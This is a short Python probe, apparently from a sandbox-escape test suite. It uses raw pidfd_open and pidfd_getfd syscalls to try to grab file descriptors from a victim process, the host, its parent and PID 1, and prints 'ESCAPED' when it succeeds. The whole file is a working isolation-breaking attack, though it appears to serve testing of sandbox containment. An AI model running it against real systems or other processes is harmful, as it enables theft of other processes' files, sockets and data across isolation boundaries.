# NAME: pidfd
# ATTEMPTS: take descriptors out of other processes
# DETECT: stdout
import ctypes, errno, json, mmap, os, signal, socket, struct, sys, threading, time
P = json.load(open("params.json"))
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def win(x): print("ESCAPED", x, flush=True)
def attempt(f, *a):
    try: return f(*a)
    except (OSError, ValueError, RuntimeError) as e: print(type(e).__name__, e)
for pid in {P["victim"], P["host_pid"], os.getppid(), 1}:
    fd = libc.syscall(434, pid, 0)
    if fd >= 0:
        win(f"pidfd_open {pid}")
        for n in range(3, 20):
            if libc.syscall(438, fd, n, 0) >= 0: win("pidfd_getfd")
